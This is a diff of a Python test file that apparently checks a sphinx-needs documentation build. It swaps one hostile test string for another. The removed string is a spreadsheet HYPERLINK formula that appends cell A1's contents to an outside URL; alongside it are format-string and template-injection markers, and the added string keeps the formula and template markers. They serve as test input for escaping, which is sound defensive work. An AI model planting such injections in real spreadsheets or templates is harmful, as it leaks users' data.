@@ -27,7 +27,7 @@ DECISION = """
     We meet in odd weeks.
     ```
 """
-HOSTILE = '=HYPERLINK("https://example.org/?"&A1, "50 %(title)s, {{ 1 + 1 }}")'
+HOSTILE = "=HYPERLINK(1&A1, 50 %(title)s, {{ 1 + 1 }})"
 
 
 @pytest.fixture(scope="module")
@@ -81,7 +81,7 @@ def test_sphinx_needs_loads_the_records(site: Path, tmp_path: Path) -> None:
         "action",
         "vote",
     }
-    assert '[ [echo("run")]] 100 %, "so to speak"' in cells, "a function of sphinx-needs"
+    assert "[ [echo(“run”)]] 100 %, “so to speak”" in cells, "a function of sphinx-needs"
     assert needs["KEYSTONE-01"]["links"] == ["IDN-01"]
 
 
